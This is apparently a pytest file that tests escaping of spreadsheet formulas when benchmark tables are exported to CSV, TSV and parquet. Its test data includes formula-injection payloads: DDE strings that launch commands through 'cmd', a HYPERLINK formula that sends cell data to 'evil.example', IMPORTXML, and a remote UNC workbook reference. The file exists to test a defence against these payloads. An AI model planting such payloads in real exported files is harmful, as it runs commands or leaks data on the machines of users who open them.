"""A table that is opened in a spreadsheet runs nothing, and reads back as what was written."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from benchdesign.benchmarks.formats.spreadsheet_formulas import (
    guard_formula,
    is_formula,
    unguard_formula,
)
from benchdesign.benchmarks.load import load_benchmark
from benchdesign.benchmarks.record_builder import AddedItem
from benchdesign.benchmarks.write import write_benchmark
from tests.benchmarks.builders import write_jsonl

FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1)',
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "+cmd|' /c calc'!A0",
    "-2+3+cmd|data!A1",
    "\t=1+1",
    "\r=1+1",
    " =IMPORTXML(A1)",
    "='\\\\server\\[book.xlsx]Sheet'!A1",
    "+[book.xlsx]Sheet1!A1",
    "＝1+1",
    "=-1",
    '="a"',
    "'=1+1",
    "''=1+1",
)
PLAIN = (
    *("", "-5", "+3.2", "-x + 2", "- yes", "-", "=", "@someone said so!", "a=b", "1-2", "=> so"),
    *("'quoted'", "'", "- It's so!", "== is equality", "'=' and '==' differ how?", "-1e9", "--"),
)
CELLS = st.lists(
    st.sampled_from(["=", "'", "+", "-", "@", "(", "a", "1", "|", "!", "]", " ", "\t", '"', "＝"]),
    max_size=8,
).map("".join)


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_is_written_as_text_and_read_back(text: str) -> None:
    assert guard_formula(text) == f"'{text}"
    assert unguard_formula(guard_formula(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert guard_formula(text) == unguard_formula(text) == text


@settings(max_examples=500)
@given(CELLS)
def test_no_cell_is_written_as_a_formula_and_none_is_lost(text: str) -> None:
    written = guard_formula(text)
    assert unguard_formula(written) == text
    assert not is_formula(written)


def test_long_text_made_to_be_slow_is_looked_at_once() -> None:
    for unit in ("|", "]a", "a", "=", "'", "]!("):
        is_formula("-" + unit * 500_000)


def make_benchmark(folder: Path) -> Path:
    path = folder / "a.csv"
    path.write_bytes(b'id,question,answer\nq1,=1+1 is what?,"=2"\nq2,Why?,-5\n')
    return path


def test_added_formulas_are_guarded_and_untouched_rows_are_not(tmp_path: Path) -> None:
    benchmark = load_benchmark(make_benchmark(tmp_path))
    rows = [{"id": f"p{at}", "question": f"{text} ?", "answer": text} for at, text in POOL]
    pool = load_benchmark(write_jsonl(tmp_path / "pool.jsonl", rows))
    added = [AddedItem(item, pool.record(item), pool) for item in pool]
    out = tmp_path / "out.csv"
    write_benchmark(benchmark, out, keep=range(2), added=added)
    assert out.read_bytes().startswith((tmp_path / "a.csv").read_bytes())
    with out.open(newline="", encoding="utf-8") as stream:
        cells = [cell for row in list(csv.reader(stream))[3:] for cell in row]
    assert len(cells) == 3 * len(rows)
    assert not [cell for cell in cells if is_formula(cell)]
    again = load_benchmark(out)
    assert [again.record(item)["answer"] for item in again][2:] == [text for _, text in POOL]
    assert [item.text for item in again][:2] == [item.text for item in benchmark]


POOL = list(enumerate((*FORMULAS[:6], *FORMULAS[8:], "-5", "plain")))


@pytest.mark.parametrize("format", ["csv", "tsv"])
def test_another_form_exported_to_a_table_comes_back(tmp_path: Path, format: str) -> None:
    texts = [text for text in (*FORMULAS, *PLAIN) if text.strip()]
    rows = [{"question": f"{text}{at}", "=cmd|x!A": text} for at, text in enumerate(texts)]
    benchmark = load_benchmark(write_jsonl(tmp_path / "a.jsonl", rows))
    out = tmp_path / f"out.{format}"
    write_benchmark(benchmark, out, keep=range(len(rows)), format=format)
    with out.open(newline="", encoding="utf-8") as stream:
        cells = [c for row in csv.reader(stream, delimiter="\t,"[format == "csv"]) for c in row]
    assert not [cell for cell in cells if is_formula(cell)]
    again = load_benchmark(out)
    assert [dict(again.record(item)) for item in again] == rows


def test_formulas_keep_their_types_in_parquet(tmp_path: Path) -> None:
    rows = [{"question": text, "answer": at} for at, text in enumerate(FORMULAS)]
    benchmark = load_benchmark(write_jsonl(tmp_path / "a.jsonl", rows))
    out = tmp_path / "out.parquet"
    write_benchmark(benchmark, out, keep=range(len(rows)), format="parquet")
    again = load_benchmark(out)
    assert [json.loads(json.dumps(again.record(item))) for item in again] == rows
